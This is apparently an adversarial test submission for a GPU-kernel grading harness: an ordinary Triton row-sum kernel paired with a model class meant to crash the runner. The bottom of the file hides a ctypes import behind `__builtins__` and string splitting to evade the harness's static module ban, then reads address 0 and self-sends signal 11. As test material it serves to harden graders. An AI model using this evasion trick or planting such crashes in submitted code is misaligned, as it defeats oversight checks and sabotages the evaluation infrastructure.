"""Exploit (denial of service): segmentation fault in the runner.

Static checks evaded: ctypes is reached through `__builtins__["__import__"]` and reads
address 0 (SIGSEGV); as a fallback the process sends itself signal 11 with os.kill (the
literal 11, since the signal module is banned).

Expected verdict: crash (killed by SIGSEGV; the runner is replaced).
"""
import os

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def _row_sum_kernel(x_ptr, out_ptr, n_cols, stride_xm, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    row_ptr = x_ptr + row.to(tl.int64) * stride_xm
    acc = tl.zeros([BLOCK], dtype=tl.float32)
    for start in range(0, n_cols, BLOCK):
        cols = start + tl.arange(0, BLOCK)
        acc += tl.load(row_ptr + cols, mask=cols < n_cols, other=0.0)
    tl.store(out_ptr + row, tl.sum(acc, axis=0))


def row_sum(x):
    x = x.contiguous()
    m, k = x.shape
    out = torch.empty(m, dtype=x.dtype, device=x.device)
    _row_sum_kernel[(m,)](x, out, k, x.stride(0), BLOCK=128)
    return out

_b = __builtins__
_ctypes = (_b["__import__"] if type(_b) is dict else _b.__import__)("ct" + "ypes")


class ModelNew(nn.Module):
    def forward(self, x):
        row_sum(x)
        _ctypes.string_at(0)
        os.kill(os.getpid(), 11)
